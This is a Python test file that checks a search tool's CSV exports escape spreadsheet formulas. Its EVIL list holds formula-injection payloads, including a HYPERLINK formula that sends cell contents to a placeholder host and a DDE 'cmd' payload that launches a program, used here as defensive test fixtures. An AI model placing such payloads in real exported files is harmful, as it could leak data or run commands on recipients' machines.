"""Issue #11: CSV output never hands a spreadsheet a formula (``--csv`` and the page's download)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from precedent.search.results import csv_safe
from precedent.ui.handlers import Handlers

EVIL = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3",
        "@SUM(1,2)"]


def _library_with_formulas(lib, tmp_path: Path):
    doc = tmp_path / "formulas.txt"
    doc.write_text("\n\n".join(f"{i}. {t} zanzibar lighthouse" for i, t in enumerate(EVIL, start=1))
                   + "\n", encoding="utf-8")
    return lib.add(doc)


def _cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_download_of_the_page_escapes_formulas(fake_lib, tmp_path):
    _library_with_formulas(fake_lib, tmp_path)
    h = Handlers(fake_lib, download_dir=tmp_path / "dl")
    reply = h.search.ask("zanzibar lighthouse", [], k=10)
    rows = _cells(Path(reply.csv_path).read_text(encoding="utf-8"))
    texts = [r["text"] for r in rows if "zanzibar" in r["text"]]
    assert len(texts) == len(EVIL)
    assert all(t.startswith("'") and t[1:2] in "=+-@" for t in texts), texts
    # nothing else changed
    assert sorted(t[1:] for t in texts) == sorted(f"{e} zanzibar lighthouse" for e in EVIL)


def test_batch_csv_as_printed_by_search_csv_escapes_formulas_in_query_and_text(fake_lib, tmp_path):
    _library_with_formulas(fake_lib, tmp_path)
    out = fake_lib.batch(["=zanzibar lighthouse"], k=10).to_csv()
    rows = _cells(out)
    assert rows and all(r["query"] == "'=zanzibar lighthouse" for r in rows)
    assert all(not r["text"].startswith(("=", "+", "-", "@")) for r in rows)
    assert all(float(r["score"]) == float(r["score"]) for r in rows)  # numbers stay numbers


def test_csv_safe_leaves_plain_values_alone():
    assert csv_safe("We commit - to all") == "We commit - to all"
    assert csv_safe(-0.5) == -0.5 and csv_safe(3) == 3 and csv_safe(None) is None
    assert csv_safe("\tcmd") == "'\tcmd"
